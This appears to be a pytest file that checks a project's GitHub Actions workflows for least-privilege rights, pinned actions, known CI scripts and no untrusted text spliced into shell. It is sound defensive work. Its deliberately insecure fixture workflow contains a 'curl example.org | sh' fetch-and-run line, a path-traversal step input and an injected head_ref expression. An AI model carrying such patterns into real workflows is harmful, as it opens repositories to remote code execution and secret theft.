"""What the public workflows may do: the steps of CI, least rights, pinned actions, no stranger's text in a shell.

A made-up workflow that offends against all of it must be found guilty.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from studydeck.cli.main import main

ROOT = Path(__file__).parents[2]
CI = ROOT / ".ci"
# What each job may do beyond nothing.
RIGHTS: Mapping[str, Mapping[str, str]] = {
    "ci.check": {"contents": "read"},
    "cards.deck": {"contents": "write", "id-token": "write", "attestations": "write", "pages": "write"},
    "deck.report": {"contents": "read"},
    "deck.build": {"contents": "read"},
    "deck.reproduce": {"contents": "read"},
    "deck.attest": {"id-token": "write", "attestations": "write"},
    "deck.publish": {"contents": "write"},
    "deck.pages": {"pages": "write", "id-token": "write"},
}
TOOL = "./tool"
# With these, a stranger's pull request runs with the rights and secrets of the repository.
STRANGERS = {"pull_request_target", "workflow_run", "issue_comment", "issues"}
CALL = re.compile(r'"?(?:tool/|\$GITHUB_ACTION_PATH/)?\.ci/(run|(?:steps|deck)/[\w$-]+)"?')
PINNED = re.compile(r"[\w-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
ON: Any = True  # YAML reads the key `on` as a truth

Texts = Mapping[str, str]


def workflows() -> dict[str, str]:
    """Read the workflows by their names."""
    found = {path.stem: path.read_text("utf-8") for path in (ROOT / ".github" / "workflows").iterdir()}
    assert set(found) >= {"ci", "cards", "deck"}
    return found


def action() -> str:
    """Read the action."""
    return (ROOT / "action.yml").read_text("utf-8")


def jobs(texts: Texts) -> Iterator[tuple[str, dict[str, Any]]]:
    """Give every job under the name of its workflow and its own."""
    for name, text in texts.items():
        for key, job in yaml.safe_load(text)["jobs"].items():
            yield f"{name}.{key}", job


def steps(texts: Texts) -> Iterator[tuple[str, dict[str, Any]]]:
    """Give every step of every job."""
    for name, job in jobs(texts):
        for step in job.get("steps", ()):
            yield name, step


def runs_too() -> set[str]:
    """Give the scripts that `.ci/run` runs, itself or through one that it runs."""
    reached, waiting = {"run"}, ["run"]
    while waiting:
        lines = (CI / waiting.pop()).read_text("utf-8").splitlines()
        called = {
            f"{found[1]}/{found[2]}"
            for line in lines
            if (found := re.match(r'\s*(?:PATH=\S+ )?"?(?:\.ci|\$here)/(steps|deck)/([\w-]+)', line))
        }
        waiting += sorted(called - reached)
        reached |= called
    return reached


def strange_commands(texts: Texts, known: set[str]) -> Iterator[str]:
    """Find commands, and steps of the action, that CI does not run."""
    for name, step in steps(texts):
        if "run" in step:
            found = CALL.fullmatch(step["run"].strip())
            if not found or found[1] not in known:
                yield f"{name} runs {step['run'].strip()}"
        if step.get("uses") == TOOL and f"deck/{step.get('with', {}).get('step')}" not in known:
            yield f"{name} takes the step {step.get('with', {}).get('step')}"


def spliced(texts: Texts) -> Iterator[str]:
    """Find scripts into which an expression is written; text goes to a script by its environment only."""
    for name, step in steps(texts):
        if "${{" in step.get("run", ""):
            yield f"{name} splices into {step['run'].strip()}"


def loose(texts: Texts) -> Iterator[str]:
    """Find actions that are not pinned by a hash with its version, or by two."""
    pins: dict[str, str] = {}
    for name, text in texts.items():
        for used in re.findall(r"uses: *(.+?) *$", text, re.MULTILINE):
            if used.startswith("./"):
                continue
            if not PINNED.fullmatch(used):
                yield f"{name} uses {used}"
            elif pins.setdefault(used.split("@")[0], used) != used:
                yield f"{name} uses another {used.split('@')[0]}"


def overreaching(texts: Texts, rights: Mapping[str, Mapping[str, str]]) -> Iterator[str]:
    """Find rights that nobody needs, credentials that stay behind, jobs without an end, and strangers' triggers."""
    for name, text in texts.items():
        workflow = yaml.safe_load(text)
        if workflow.get("permissions") != {}:
            yield f"{name} has rights"
        yield from (f"{name} runs on {one}" for one in sorted(STRANGERS & set(workflow[ON])))
    for name, job in jobs(texts):
        if job.get("permissions") != rights.get(name, {}):
            yield f"{name} has other rights"
        if "steps" in job and "timeout-minutes" not in job:
            yield f"{name} has no end"
        if "secrets" in job:
            yield f"{name} hands out secrets"
    for name, step in steps(texts):
        if (
            step.get("uses", "").startswith("actions/checkout@")
            and step.get("with", {}).get("persist-credentials") is not False
        ):
            yield f"{name} keeps credentials"
        if step.get("uses") == TOOL and "write" in rights.get(name, {}).values():
            yield f"{name} installs packages where it may write"


def test_ci_runs_every_step() -> None:
    """Every script of .ci is run by .ci/run."""
    written = {path.relative_to(CI).as_posix() for folder in ("steps", "deck") for path in (CI / folder).iterdir()}
    assert len(written) > 10
    assert written == runs_too() - {"run"}


def test_every_command_of_a_workflow_is_one_that_ci_runs() -> None:
    """A workflow says nothing in shell but the name of a script that CI runs as well."""
    assert sum("run" in step for _, step in steps(workflows())) >= 3
    assert list(strange_commands(workflows(), runs_too())) == []


def test_every_command_of_the_action_is_one_that_ci_runs() -> None:
    """The action installs by the step of CI, and then takes the step that it is asked for, one of those in .ci/deck."""
    made = yaml.safe_load(action())
    assert [step["run"] for step in made["runs"]["steps"] if "run" in step] == [
        '"$GITHUB_ACTION_PATH/.ci/steps/environment"',
        '"$GITHUB_ACTION_PATH/.ci/deck/$STEP"',
    ]
    named = re.findall(r"\w+", made["inputs"]["step"]["description"].split(";")[0].removeprefix("One of "))
    assert sorted(named) == sorted(path.name for path in (CI / "deck").iterdir())
    assert made["inputs"]["step"]["default"] in named


def test_the_action_takes_what_it_is_handed() -> None:
    """No workflow hands the action an input that it does not have."""
    inputs = set(yaml.safe_load(action())["inputs"])
    handed = [set(step["with"]) for _, step in steps(workflows()) if step.get("uses") == TOOL]
    assert len(handed) >= 4
    assert all(one <= inputs for one in handed)


def test_no_text_is_written_into_a_script() -> None:
    """Branches, titles and tags reach a script by its environment only."""
    assert "${{" in workflows()["deck"]
    assert list(spliced(workflows())) == []
    assert not any("${{" in step.get("run", "") for step in yaml.safe_load(action())["runs"]["steps"])


def test_actions_are_pinned() -> None:
    """Every action is named by a hash, with its version beside it, and everywhere by the same."""
    assert list(loose(workflows() | {"action": action()})) == []


def test_rights_are_the_least() -> None:
    """A workflow has no rights; a job has those of the table, and where it may write it installs nothing."""
    assert {name for name, _ in jobs(workflows())} == set(RIGHTS)
    assert list(overreaching(workflows(), RIGHTS)) == []


def test_a_release_goes_through_every_gate() -> None:
    """Nothing is published that was not rehearsed, reproduced on two systems and two Pythons, and attested."""
    made = dict(jobs(workflows()))
    assert [step["with"]["step"] for step in made["deck.build"]["steps"] if step.get("uses") == TOOL] == [
        "publishable",
        "rehearse",
    ]
    needs = {name.removeprefix("deck."): job["needs"] for name, job in made.items() if "needs" in job}
    assert needs == {"reproduce": "build", "attest": "reproduce", "publish": "attest", "pages": "publish"}
    matrix = made["deck.reproduce"]["strategy"]["matrix"]
    assert len({system.split("-")[0] for system in matrix["system"]}) >= 2
    assert len(set(matrix["python"])) >= 2
    assert made["deck.build"]["if"] == "github.ref_type == 'tag'"


def test_the_guide_shows_our_own_lines() -> None:
    """What the guide tells others to write is what this repository runs, but for the address: ten lines at most."""
    guide = (ROOT / "docs" / "guide.md").read_text("utf-8")
    shown = guide.split("```yaml .github/workflows/cards.yml\n")[1].split("```")[0]
    ours = workflows()["cards"]
    assert len(shown.splitlines()) <= 10
    theirs = re.sub(r"uses: OWNER/studydeck/(\S+)@COMMIT.*", r"uses: ./\1", shown)
    assert theirs == ours


def test_the_hooks_call_commands() -> None:
    """Each hook runs a command of the program, on notes, settings and pictures."""
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    assert [hook["id"] for hook in hooks] == ["studydeck-check", "studydeck-build"]
    for hook in hooks:
        program, command = hook["entry"].split()
        assert (program, hook["language"], hook["pass_filenames"]) == ("studydeck", "python", False)
        assert command in main.commands
        for path in ("notes/tea.md", "deck.toml", "notes/ledger.jsonl", "notes/cup.png"):
            assert re.search(hook["files"], path)
        assert not re.search(hook["files"], "README.txt")


GUILTY = """
on: [pull_request_target]
permissions: {contents: write}
jobs:
  guilty:
    runs-on: ubuntu-24.04
    secrets: inherit
    permissions: {packages: write}
    steps:
      - uses: actions/checkout@v6
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd
        with: {persist-credentials: true}
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with: {persist-credentials: false}
      - uses: actions/checkout@ce0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.3
        with: {persist-credentials: false}
      - run: curl example.org | sh
      - run: .ci/steps/lint && .ci/steps/nothing
      - run: .ci/steps/nothing
      - run: .ci/steps/lint ${{ github.head_ref }}
      - uses: ./tool
        with: {step: ../../anything}
"""


@pytest.mark.parametrize(
    ("found", "expected"),
    [
        (
            strange_commands,
            [
                "guilty.guilty runs curl example.org | sh",
                "guilty.guilty runs .ci/steps/lint && .ci/steps/nothing",
                "guilty.guilty runs .ci/steps/nothing",
                "guilty.guilty runs .ci/steps/lint ${{ github.head_ref }}",
                "guilty.guilty takes the step ../../anything",
            ],
        ),
        (spliced, ["guilty.guilty splices into .ci/steps/lint ${{ github.head_ref }}"]),
        (
            loose,
            [
                "guilty uses actions/checkout@v6",
                "guilty uses actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd",
                "guilty uses another actions/checkout",
            ],
        ),
        (
            overreaching,
            [
                "guilty has rights",
                "guilty runs on pull_request_target",
                "guilty.guilty has other rights",
                "guilty.guilty has no end",
                "guilty.guilty hands out secrets",
                "guilty.guilty keeps credentials",
                "guilty.guilty keeps credentials",
                "guilty.guilty installs packages where it may write",
            ],
        ),
    ],
)
def test_a_guilty_workflow_is_found_guilty_rejected(found: Any, expected: list[str]) -> None:
    """The watchman sees a strange command, a spliced text, a loose pin, a right too many."""
    more: dict[Any, tuple[Any, ...]] = {
        strange_commands: (runs_too(),),
        overreaching: ({"guilty.guilty": {"contents": "write"}},),
    }
    assert list(found({"guilty": GUILTY}, *more.get(found, ()))) == expected
